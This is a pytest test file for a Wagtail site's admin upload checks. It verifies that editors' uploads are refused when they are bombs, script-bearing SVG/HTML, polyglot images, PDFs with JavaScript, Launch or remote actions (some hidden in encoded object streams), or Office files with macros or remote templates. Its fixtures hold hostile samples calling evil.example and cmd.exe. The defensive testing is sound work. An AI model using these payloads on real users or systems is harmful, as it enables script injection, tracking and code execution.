"""Uploads through the admin: too large, too many pixels, SVG and other active
content, files that are not what their name says. Each is refused with a message an
editor can act on; ordinary files still go through."""

import base64
import io
import zipfile
import zlib

from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection

import pytest
from PIL import Image as PillowImage
from pypdf import PdfWriter

pytestmark = pytest.mark.django_db

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>alert(document.cookie)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def picture(fmt: str = "PNG", size=(64, 48), mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    PillowImage.new(mode, size, 1 if mode == "1" else (20, 120, 160)).save(buffer, fmt)
    return buffer.getvalue()


def pdf(*objects: bytes) -> bytes:
    """A well-formed PDF (header, objects, cross-reference table, trailer) whose
    objects are numbered from 1, the first being the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def ascii_hex(data: bytes) -> tuple[bytes, bytes]:
    return b"/ASCIIHexDecode", data.hex().encode() + b">"


def ascii_85(data: bytes) -> tuple[bytes, bytes]:
    return b"/ASCII85Decode", base64.a85encode(data) + b"~>"


def pdf_with_object_stream(hidden: bytes, encode) -> bytes:
    """A PDF 1.5 file whose catalog points at object 3, which lives in an object
    stream encoded with ``encode`` (``ascii_hex``, ``ascii_85``), indexed by a
    cross-reference stream: nothing of it appears in clear in the file."""
    header = b"3 0 "
    filter_name, packed = encode(header + hidden)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        None,  # object 3, inside object 4
        b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream"
        % (len(header), filter_name, len(packed), packed),
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, obj in enumerate(objects, start=1):
        if obj is not None:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    offsets[5] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, 6):
        if number == 3:
            rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(table), table)
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


PLAIN_PDF = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] >>")


def compressed_stream(content: bytes) -> bytes:
    data = zlib.compress(content)
    return (
        b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(data), data)
    )


def archive(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zipped:
        for name, content in entries.items():
            zipped.writestr(name, content)
    return buffer.getvalue()


DOCX_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="x"/>',
    "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="x"/>',
}
XLSX_PARTS = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="x"/>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="x"/>',
}
ODT_PARTS = {
    "mimetype": b"application/vnd.oasis.opendocument.text",
    "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="x"/>',
}


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


ENCRYPTED_PDF = encrypted_pdf()
RELATIONSHIPS = b"http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONSHIPS = (
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
)
REMOTE_TEMPLATE_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
    b'Type="%s/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>' % (RELATIONSHIPS, OFFICE_RELATIONSHIPS)
)
HYPERLINK_RELS = (
    b'<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" '
    b'Type="%s/hyperlink" Target="https://clinic.example/" '
    b'TargetMode="External"/></Relationships>' % (RELATIONSHIPS, OFFICE_RELATIONSHIPS)
)
# A web link behind a click and a jump to page 1 on opening are ordinary.
PDF_WITH_LINKS = pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
    b"/A << /S /URI /URI (https://clinic.example/) >> >>",
)


@pytest.fixture
def editor_client(client, django_user_model):
    """An editor: the role that uploads pictures and documents."""
    user = django_user_model.objects.create_user(username="editor", password="x")
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    return client


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def upload_image(client, name: str, content: bytes):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Ward photo",
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def upload_document(client, name: str, content: bytes):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": "Patient leaflet",
            "file": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
    )


def file_errors(response) -> str:
    assert response.status_code == 200, "the upload was accepted"
    errors = response.context["form"].errors
    assert "file" in errors, errors
    return " ".join(errors["file"])


# --- images ---


@pytest.mark.parametrize(
    ("name", "fmt"), [("ward.png", "PNG"), ("ward.jpg", "JPEG"), ("ward.webp", "WEBP")]
)
def test_ordinary_images_are_accepted(editor_client, media, name, fmt):
    response = upload_image(editor_client, name, picture(fmt))
    assert response.status_code == 302, (
        response.context and response.context["form"].errors
    )
    assert Image.objects.filter(title="Ward photo").exists()


def test_image_over_the_size_limit_is_refused(editor_client, media, settings):
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1024
    message = file_errors(
        upload_image(editor_client, "big.png", picture("PNG", (400, 400)))
    )
    assert "images can be at most 1.0\xa0KB" in message
    assert "Save it at a smaller size" in message
    assert not Image.objects.exists()


def test_decompression_bomb_is_refused(editor_client, media):
    # 10,000 × 5,000 black-and-white pixels: tens of kilobytes on disk, 50 million
    # pixels (and 150 MB of memory) once decoded.
    bomb = picture("PNG", (10_000, 5_000), mode="1")
    assert len(bomb) < 200_000
    message = file_errors(upload_image(editor_client, "scan.png", bomb))
    assert "50000000 pixels" in message
    assert "at most 40000000" in message
    assert "Resize it" in message
    assert not Image.objects.exists()


@pytest.mark.parametrize("name", ["drawing.svg", "drawing.SVG", "page.html"])
def test_svg_and_web_pages_are_refused_as_images(editor_client, media, name):
    message = file_errors(upload_image(editor_client, name, SVG))
    assert "Only these image types can be uploaded: JPG, JPEG, PNG, WEBP" in message
    assert "SVG drawings" in message


def test_svg_renamed_to_png_is_refused(editor_client, media):
    message = file_errors(upload_image(editor_client, "drawing.png", SVG))
    assert "really a svg image, not a .png file" in message


def test_png_named_jpg_is_refused(editor_client, media):
    message = file_errors(upload_image(editor_client, "ward.jpg", picture("PNG")))
    assert "really a png image, not a .jpeg file" in message


def test_image_with_hidden_script_is_refused(editor_client, media):
    polyglot = picture("PNG") + b"<script>fetch('/admin/')</script>"
    message = file_errors(upload_image(editor_client, "ward.png", polyglot))
    assert "contains web page code" in message
    assert not Image.objects.exists()


def test_multiple_uploader_uses_the_same_checks(editor_client, media):
    response = editor_client.post(
        reverse("wagtailimages:add_multiple"),
        {"files[]": SimpleUploadedFile("drawing.svg", SVG)},
    )
    assert response.status_code == 200
    body = response.json()
    assert body["success"] is False
    assert "SVG drawings" in body["error_message"]


# --- documents ---


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leaflet.pdf", PLAIN_PDF),
        ("links.pdf", PDF_WITH_LINKS),
        (
            "links.docx",
            archive({**DOCX_PARTS, "word/_rels/document.xml.rels": HYPERLINK_RELS}),
        ),
        ("leaflet.docx", archive(DOCX_PARTS)),
        ("prices.xlsx", archive(XLSX_PARTS)),
        ("leaflet.odt", archive(ODT_PARTS)),
        ("notes.txt", "Besuchszeiten: 10–18 Uhr\n".encode()),
        ("prices.csv", b"region,minimum\nSerbia,7000\n"),
    ],
)
def test_ordinary_documents_are_accepted(editor_client, media, name, content):
    response = upload_document(editor_client, name, content)
    assert response.status_code == 302, (
        response.context and response.context["form"].errors
    )
    assert Document.objects.get().file.read() == content


def test_document_over_the_size_limit_is_refused(editor_client, media, settings):
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = 100
    message = file_errors(upload_document(editor_client, "leaflet.pdf", PLAIN_PDF))
    assert "documents can be at most 100\xa0bytes" in message
    assert not Document.objects.exists()


REFUSED_DOCUMENTS = [
    ("drawing.svg", SVG, "Files of type .svg cannot be uploaded"),
    ("page.html", HTML, "Files of type .html cannot be uploaded"),
    ("setup.exe", b"MZ\x90\x00", "Files of type .exe cannot be uploaded"),
    ("noextension", PLAIN_PDF, "Files of type .(none) cannot be uploaded"),
    ("leaflet.pdf", HTML, "called .pdf but is not a PDF"),
    ("leaflet.pdf", b"MZ\x90\x00" + b"\x00" * 64, "called .pdf but is not a PDF"),
    (
        "leaflet.pdf",
        pdf(
            b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"
        ),
        "contains scripts, actions or attached files (JS, JavaScript, OpenAction",
    ),
    (
        "leaflet.pdf",
        pdf(b"<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (x) >> >>"),
        "contains scripts",
    ),
    (
        "leaflet.pdf",
        pdf(compressed_stream(b"<< /S /Launch /F (cmd.exe) >>")),
        "(Launch)",
    ),
    (
        "leaflet.pdf",
        pdf(b"<< /Type /Catalog /Names << /EmbeddedFiles 3 0 R >> >>"),
        "(EmbeddedFiles)",
    ),
    *[
        (
            "leaflet.pdf",
            pdf_with_object_stream(action, encode),
            expected,
        )
        for encode in (ascii_hex, ascii_85)
        for action, expected in [
            (b"<< /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
            (b"<< /S /Launch /F (cmd.exe) >>", "Launch"),
            (b"<< /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >>", "GoToR"),
            (b"<< /S /URI /URI (https://evil.example/track) >>", "OpenAction URI"),
            (
                b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>",
                "SubmitForm",
            ),
        ]
    ],
    (
        "leaflet.pdf",
        pdf(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /AA << /O << /S /URI /URI (https://x.example) >> >> >>",
        ),
        "AA URI",
    ),
    ("leaflet.pdf", ENCRYPTED_PDF, "encrypted or password-protected"),
    ("leaflet.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type", "damaged or built in a way"),
    (
        "leaflet.docx",
        archive({**DOCX_PARTS, "word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS}),
        "loads content from outside itself (attachedTemplate",
    ),
    (
        "leaflet.odt",
        archive(
            {
                **ODT_PARTS,
                "content.xml": b'<?xml version="1.0"?><office:document-content '
                b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
                b'xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image '
                b'xlink:href="https://evil.example/pixel.png"/></office:document-content>',
            }
        ),
        "loads content from outside itself (https://evil.example/pixel.png)",
    ),
    ("leaflet.docx", b"MZ\x90\x00not a zip", "not a valid .docx document"),
    ("leaflet.docx", archive(XLSX_PARTS), "its content is another kind of document"),
    (
        "leaflet.docx",
        archive({**DOCX_PARTS, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "contains macros",
    ),
    (
        "prices.xlsx",
        archive({**XLSX_PARTS, "xl/embeddings/oleObject1.bin": b"\xd0\xcf"}),
        "embedded objects",
    ),
    (
        "leaflet.docx",
        archive(
            {
                **DOCX_PARTS,
                "[Content_Types].xml": b'<Types><Override ContentType="application/'
                b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            }
        ),
        "contains macros",
    ),
    ("leaflet.odt", archive(DOCX_PARTS), "not an OpenDocument text"),
    (
        "leaflet.odt",
        archive({**ODT_PARTS, "Basic/Standard/Module1.xml": b"<script/>"}),
        "contains macros",
    ),
    ("notes.txt", HTML, "contains web page code"),
    ("notes.txt", SVG, "contains web page code"),
    ("prices.csv", b'name,link\nx,"javascript:alert(1)"\n', "contains web page code"),
    ("notes.txt", b"ELF\x00\x01\x02", "is not plain text"),
]


@pytest.mark.parametrize(("name", "content", "expected"), REFUSED_DOCUMENTS)
def test_documents_that_are_not_what_they_say_are_refused(
    editor_client, media, name, content, expected
):
    message = file_errors(upload_document(editor_client, name, content))
    assert expected in message
    assert not Document.objects.exists()


def test_archive_bomb_is_refused(editor_client, media):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in DOCX_PARTS.items():
            zipped.writestr(name, content)
        zipped.writestr("word/media/filler.bin", b"\x00" * (70 * 1024 * 1024))
    assert len(bomb.getvalue()) < 1024 * 1024
    message = file_errors(upload_document(editor_client, "big.docx", bomb.getvalue()))
    assert "unpacks to more than 64.0\xa0MB" in message


def test_replacing_a_document_file_is_checked_too(editor_client, media):
    upload_document(editor_client, "leaflet.pdf", PLAIN_PDF)
    document = Document.objects.get()
    response = editor_client.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {
            "title": document.title,
            "file": SimpleUploadedFile("leaflet.pdf", HTML),
            "collection": document.collection_id,
        },
    )
    assert "called .pdf but is not a PDF" in file_errors(response)
    document.refresh_from_db()
    assert document.file.read() == PLAIN_PDF


def test_multiple_document_uploader_uses_the_same_checks(editor_client, media):
    response = editor_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": SimpleUploadedFile("page.html", HTML)},
    )
    assert response.status_code == 200
    body = response.json()
    assert body["success"] is False
    assert "Files of type .html cannot be uploaded" in body["error_message"]
